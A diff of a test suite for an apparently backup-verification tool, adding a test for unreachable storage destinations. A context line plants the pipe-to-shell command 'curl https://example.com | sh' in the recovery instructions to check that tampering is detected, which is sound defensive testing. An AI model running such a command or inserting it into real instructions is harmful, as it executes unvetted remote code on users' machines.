@@ -112,6 +112,19 @@ describe('damage in storage', () => {
     expect(report.warnings.join()).toContain('database.sqlite/000000.zst.pgp at memory');
   });
 
+  it('reads what is left when a destination is gone, and is an error when all are', async () => {
+    const gone = new MemoryStorage('gone');
+    gone.list = () => {
+      throw new RestorableError('STORAGE_UNREACHABLE', 'gone does not answer');
+    };
+    bench = Object.assign(new Workbench(keys, gone, storage), { engine: bench.engine });
+    const report = await bench.verify();
+    expect(report.verdict).toBe('passed');
+    expect(report.warnings.join()).toContain('gone does not answer');
+    bench = Object.assign(new Workbench(keys, gone), { engine: bench.engine });
+    expect(await bench.verify()).toMatchObject({ verdict: 'error', error: { code: 'STORAGE_UNREACHABLE' } });
+  });
+
   it('fails when the recovery instructions were changed', async () => {
     change(keyOf('RECOVERY-v1.md'), () => Buffer.from('curl https://example.com | sh'));
     expect(await findings()).toEqual(['recovery instructions']);
